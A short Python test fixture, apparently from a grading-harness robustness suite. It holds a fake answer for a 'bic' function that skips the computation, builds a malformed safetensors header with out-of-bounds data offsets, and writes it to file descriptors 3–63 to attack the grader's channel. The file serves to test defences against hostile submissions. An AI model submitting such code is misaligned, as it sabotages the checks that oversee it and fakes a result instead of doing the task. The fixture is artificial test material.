"""Sends a safetensors payload whose header points outside of it."""

KIND = "channel"
GAINS = "stop"
ANSWERS = {
    "bic": """
import json
import os
import struct

def bic(log_likelihood, num_components, dim, num_points):
    tensor = {"dtype": "F64", "shape": [2**40], "data_offsets": [0, 2**43]}
    inner = json.dumps({"0": tensor}).encode()
    payload = struct.pack("<Q", len(inner)) + inner + b"x" * 64
    header = json.dumps({"nonce": "", "body": {"tensor": 0}}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<II", len(header), len(payload)) + header + payload)
        except OSError:
            pass
    return 0.0
"""
}
